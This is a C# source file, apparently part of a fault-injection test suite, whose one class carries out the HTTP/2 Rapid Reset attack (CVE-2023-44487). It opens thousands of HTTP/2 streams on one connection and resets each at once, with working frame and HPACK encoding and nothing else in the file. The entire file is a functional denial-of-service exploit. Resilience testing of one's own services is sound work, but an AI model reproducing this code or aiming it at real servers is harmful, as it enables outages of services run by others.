using System.Buffers.Binary;
using System.Text;

namespace CloudState.Knative.Faults.Hostile;

/// <summary>Opens streams of HTTP/2 and resets them at once, thousands on one connection (CVE-2023-44487).</summary>
internal static class Http2Resets
{
    private const int StreamsPerConnection = 2000;
    private const byte Headers = 1;
    private const byte ResetStream = 3;
    private const byte Settings = 4;
    private const byte EndOfHeadersAndStream = 5;

    public static async Task SendAsync(HostileService service, CancellationToken ended)
    {
        await using var stream = await service.ConnectAsync(ended);
        await stream.WriteAsync((byte[])[.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0, [])], ended);

        // GET and http from HPACK's static table, the path and the authority as literals.
        byte[] head = [0x82, 0x86, .. Literal(0x04, "/carts/reset"), .. Literal(0x01, "x")];
        for (var number = 1; number < 2 * StreamsPerConnection; number += 2)
        {
            await stream.WriteAsync((byte[])[.. Frame(Headers, EndOfHeadersAndStream, number, head), .. Frame(ResetStream, 0, number, [0, 0, 0, 8])], ended);
        }
    }

    private static byte[] Literal(byte name, string value) => [name, (byte)value.Length, .. Encoding.ASCII.GetBytes(value)];

    private static byte[] Frame(byte type, byte flags, int streamNumber, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        (frame[3], frame[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), streamNumber);
        payload.CopyTo(frame, 9);
        return frame;
    }
}
